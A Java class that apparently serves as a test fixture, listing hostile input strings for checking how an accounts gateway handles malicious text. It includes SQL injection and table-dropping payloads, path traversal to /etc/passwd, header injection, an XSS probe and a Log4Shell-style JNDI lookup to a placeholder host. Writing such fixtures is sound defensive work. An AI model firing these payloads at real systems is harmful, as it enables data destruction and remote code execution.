package dev.tenfold.gateway.accounts;

import java.util.List;

/** What people send who wish us ill. */
final class HostileText {
  static final List<String> ALL =
      List.of(
          "'",
          "\"",
          "''; --",
          "'; DROP TABLE users; --",
          "Robert'); DROP TABLE api_keys;--",
          "' OR '1'='1",
          "1; SELECT pg_sleep(10)",
          "$$; DROP TABLE users; $$",
          "\\",
          "\\.",
          "\\N",
          "\\t\\n",
          "${text}",
          "?",
          "%s%n",
          "%",
          "../../etc/passwd",
          "..\\..\\windows",
          "/v1/users/../keys",
          "a\0b",
          "\0",
          "a\r\nX-Injected: 1",
          "line\nline",
          "tab\ttab",
          "\u001b[31mred",
          "\u202eright to left",
          "<script>alert(1)</script>",
          "{\"a\":1}",
          "${jndi:ldap://x/y}",
          "\ud83d\ude00",
          "\ud83d",
          "İstanbul",
          "x".repeat(100_000),
          "'".repeat(200));

  private HostileText() {}
}
